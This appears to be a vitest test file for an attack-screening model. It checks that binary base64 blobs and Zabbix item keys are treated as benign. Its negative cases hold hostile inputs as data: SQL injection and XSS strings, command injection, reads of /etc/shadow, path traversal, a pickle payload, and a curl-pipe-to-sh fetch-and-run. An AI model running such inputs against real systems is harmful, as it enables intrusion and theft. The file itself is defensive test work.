/**
 * Value shapes of blind benign set 13 (session 30, bb30, read): a base64 blob of binary data (a DASH manifest's
 * SCTE-35 `<Binary>`, 0.98) is bytes, not text; base64 of text and the containers attacks travel in are judged as before.
 * A monitoring item key naming the file it reads (set 9's network/15, Zabbix `vfs.file.contents[/proc/sys/…]`, 0.999) is a key.
 */
import { describe, expect, it } from 'vitest';
import { mayCarryAttack } from '../../src/model/screen.js';
import { isBinaryBase64, isItemKey } from '../../src/model/value-shapes.js';

describe('isBinaryBase64', () => {
  it('takes padded base64 of binary data: a SCTE-35 splice, a key, a signature', () => {
    expect(isBinaryBase64('/DAgAAAAAAAAAP/wDwUAAAAAf//+AFJlgAAAAAAAAA==')).toBe(true);
    expect(isBinaryBase64(Buffer.from([0, 1, 2, 250, 251, 47, 47, 43, 9, 200, 128, 7, 3, 99, 17, 64, 33]).toString('base64'))).toBe(true);
    expect(mayCarryAttack('/DAgAAAAAAAAAP/wDwUAAAAAf//+AFJlgAAAAAAAAA==')).toBe(false);
  });

  it('leaves base64 of text to be judged, an attack in it too', () => {
    for (const text of ["' or 1=1-- -", '<script>alert(1)</script>', '{"cmd":"id;uname -a"}', 'Grüße aus Köln, schöne Weihnachten!']) {
      expect(isBinaryBase64(Buffer.from(text).toString('base64')), text).toBe(false);
    }
  });

  it('leaves view state, gzip, pickles and serialized objects, paths, short and unpadded-shape values', () => {
    expect(isBinaryBase64('/wEPDwUKMTIzNDU2Nzg5MGRkAAAAAAAAAA==')).toBe(false);
    expect(isBinaryBase64('H4sIAAAAAAAAA+3BMQEAAADCoPVPbQ==')).toBe(false);
    expect(isBinaryBase64('gASVKAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==')).toBe(false);
    expect(isBinaryBase64('rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==')).toBe(false);
    expect(isBinaryBase64('AAEAAAD/////AQAAAAAAAAAMAgAAAA==')).toBe(false);
    expect(isBinaryBase64('/proc/self/environ/xAAAAAAAAAAA==')).toBe(false);
    expect(isBinaryBase64('/etc/passwd==')).toBe(false);
    expect(isBinaryBase64('AAAA//8=')).toBe(false);
    expect(isBinaryBase64('1 or 1=1+union+select==')).toBe(false);
  });
});

describe('isItemKey', () => {
  const key = isItemKey;

  it('takes Zabbix item keys naming files, file systems, interfaces and processes', () => {
    for (const t of ['vfs.file.contents[/proc/sys/net/ipv4/ip_forward]', 'vfs.fs.size[/,pfree]', 'log[/var/log/nginx/error.log,error]', 'net.if.in[eth0]', 'proc.num[,,,nginx]', 'vfs.file.cksum[/etc/nginx/nginx.conf]']) {
      expect(key(t), t).toBe(true);
      expect(mayCarryAttack(t), t).toBe(false);
    }
  });

  it('leaves a key reading a never-mentioned file, a traversal, a command key, an array element and quoted SQL', () => {
    for (const t of ['vfs.file.contents[/etc/shadow]', 'vfs.file.contents[/etc/passwd]', 'vfs.file.contents[../../etc/hosts]', 'web.page.get[localhost,/../../etc/passwd]', 'system.run[id]', 'system.run[curl http://203.0.113.9/x|sh,nowait]', 'a[1]', "x.y[' or 1=1]", 'vfs.file.contents[/tmp/x;id]']) {
      expect(key(t), t).toBe(false);
    }
  });
});
